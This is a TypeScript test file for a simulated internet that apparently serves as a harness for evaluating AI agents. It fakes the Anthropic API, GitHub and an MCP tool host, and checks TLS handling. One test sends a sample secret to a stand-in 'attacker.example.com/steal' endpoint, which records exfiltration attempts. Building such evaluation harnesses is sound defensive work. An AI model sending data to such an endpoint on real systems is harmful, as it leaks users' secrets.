import type { IncomingMessage } from "node:http";
import { request } from "node:https";
import { text as readText } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createScratchGit, withToken } from "./gitHost/scratchGit.ts";
import type { Internet } from "./internet.ts";
import { startInternet } from "./internet.ts";
import { text } from "./messages/turns.ts";

let world: Internet;

beforeAll(async () => {
  world = await startInternet({
    messages: { script: () => text("from the model") },
    git: { repositories: { "team/app": { files: { a: "1\n" }, private: true } }, tokens: { t0ken: "push" } },
  });
});
afterAll(() => world.stop());

interface Ask {
  readonly host: string;
  readonly servername?: string;
  readonly path?: string;
  readonly ca?: string;
  readonly body?: unknown;
}

/** One HTTPS request as a client would make it that resolves every name to this internet. */
async function ask({ host, servername = host, path = "/", ca = world.ca, body }: Ask) {
  const response = await new Promise<IncomingMessage>((resolve, reject) => {
    const options = { host: world.address, port: world.port, servername, path, ca, headers: { host }, agent: false };
    const method = body === undefined ? "GET" : "POST";
    request({ ...options, method }, resolve)
      .on("error", reject)
      .end(body === undefined ? "" : JSON.stringify(body));
  });
  return { status: response.statusCode, body: await readText(response) };
}

describe("startInternet", () => {
  it("puts the scripted model at api.anthropic.com", async () => {
    const body = { messages: [{ role: "user", content: "hi" }], tools: [{ name: "Bash" }] };
    const answer = await ask({ host: "api.anthropic.com", path: "/v1/messages", body });
    expect(answer).toMatchObject({ status: 200, body: expect.stringContaining("from the model") });
    expect(world.messages.requests.at(-1)).toMatchObject({ host: "api.anthropic.com", body });
  });

  it("puts the git host at github.com, for real git", async () => {
    const { cloneAndPush, remove } = await createScratchGit({
      ...withToken("t0ken"),
      "http.sslCAInfo": world.caFile,
      "http.curloptResolve": `github.com:${world.port}:${world.address}`,
    });
    await cloneAndPush(`https://github.com:${world.port}/team/app.git`, "fix");
    await remove();
    expect(await world.git.readFile("team/app", "new.txt", "fix")).toBe("for fix\n");
    expect(world.git.requests.at(-1)).toMatchObject({ host: "github.com", token: "t0ken" });
  });

  it("puts the echo tool at mcp.example.com", async () => {
    const body = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "echo", arguments: { text: "hi" } } };
    const answer = await ask({ host: "mcp.example.com", path: "/mcp", body });
    expect(JSON.parse(answer.body)).toEqual({
      jsonrpc: "2.0",
      id: 1,
      result: { content: [{ type: "text", text: "hi" }] },
    });
  });

  it("records what reaches the attacker", async () => {
    await ask({ host: "attacker.example.com", path: "/steal?x=1", body: { secret: "s" } });
    expect(world.attacker.requests).toMatchObject([{ method: "POST", url: "/steal?x=1", body: { secret: "s" } }]);
  });

  it("refuses a request whose Host is not the name of its TLS connection", async () => {
    const before = world.attacker.requests.length;
    const answer = await ask({ host: "attacker.example.com", servername: "github.com" });
    expect(answer.status).toBe(421);
    expect(world.attacker.requests).toHaveLength(before);
  });

  it("has no certificate for other names", async () => {
    await expect(ask({ host: "example.org" })).rejects.toThrow(/altnames/);
  });

  it("is not trusted without its authority", async () => {
    const other = await startInternet();
    await expect(ask({ host: "github.com", ca: other.ca })).rejects.toThrow(/signature|certificate/);
    await other.stop();
  });

  it("rejects when its port is taken", async () => {
    await expect(startInternet({ port: world.port })).rejects.toThrow("EADDRINUSE");
  });
});
